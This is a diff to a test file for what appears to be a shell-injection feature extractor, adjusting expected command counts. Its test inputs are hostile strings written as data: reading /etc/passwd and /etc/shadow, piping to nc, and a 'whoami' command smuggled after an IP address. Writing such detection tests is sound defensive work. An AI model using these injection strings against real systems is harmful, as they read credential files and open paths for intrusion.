@@ -70,7 +70,10 @@ def test_operators_and_quotes(spark):
 
 def test_commands(spark):
     f = extract(spark, query="; cat /etc/passwd; CAT x | nc host")
-    assert (f["shell_command_count"], f["distinct_shell_command_count"], f["pipe_count"], f["semicolon_count"]) == (4, 3, 1, 2)
+    # no word edge lies between a blank and a slash, so the path is no command
+    assert (f["shell_command_count"], f["distinct_shell_command_count"], f["pipe_count"], f["semicolon_count"]) == (3, 2, 1, 2)
+    assert extract(spark, query="cat /etc/passwd && cat /etc/shadow && ls /")["distinct_shell_command_count"] == 2
+    assert extract(spark, query="127.0.0.1; whoami")["shell_to_path_ratio"] == 1
 
 
 def test_word_edges_are_ascii(spark):
